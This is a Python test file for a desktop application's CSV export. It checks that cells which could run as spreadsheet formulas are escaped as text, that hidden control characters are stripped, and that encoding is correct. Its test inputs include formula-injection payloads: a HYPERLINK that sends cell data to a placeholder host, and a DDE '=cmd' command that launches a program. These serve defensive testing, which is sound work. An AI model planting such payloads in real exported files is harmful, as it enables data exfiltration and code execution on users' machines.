"""CSV the application writes cannot run as a formula when a spreadsheet opens it."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rmp_desktop.export.csv_safe import FORMULA_STARTS, safe_cell, to_bytes


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "  =1+1",
])
def test_anything_that_could_start_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


def test_ordinary_values_are_written_as_they_are():
    assert safe_cell("Nguyễn Thị Đào") == "Nguyễn Thị Đào"
    assert safe_cell("O'Brien") == "O'Brien"
    assert safe_cell("Band 8a - Lead") == "Band 8a - Lead"  # a dash inside is harmless
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(date(2026, 3, 31)) == "2026-03-31"
    assert safe_cell(None) == "" and safe_cell(True) == "yes"


def test_hidden_characters_are_dropped_but_lines_kept():
    assert safe_cell("Two\nlines\x1b[2J\u202e") == "Two\nlines[2J"


def test_the_file_is_what_a_spreadsheet_expects_and_reads_back_as_text():
    data = to_bytes([("Name", "Team size", "Note"), ("=cmd|' /C calc'!A0", -4, "a, \"quoted\"\nnote")])
    assert data.startswith(b"\xef\xbb\xbf\"Name\",\"Team size\"")
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["Name", "Team size", "Note"],
                    ["'=cmd|' /C calc'!A0", "-4", "a, \"quoted\"\nnote"]]


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=1, max_size=5),
                min_size=1, max_size=5))
def test_no_text_cell_of_any_file_starts_a_formula(rows):
    back = list(csv.reader(io.StringIO(to_bytes(rows).decode("utf-8-sig"), newline="")))
    assert len(back) == len(rows)
    for written, original in zip(back, rows, strict=True):
        for cell, value in zip(written, original, strict=True):
            if isinstance(value, int):
                assert cell == str(value)
            else:
                assert not cell.lstrip(" ").startswith(FORMULA_STARTS)
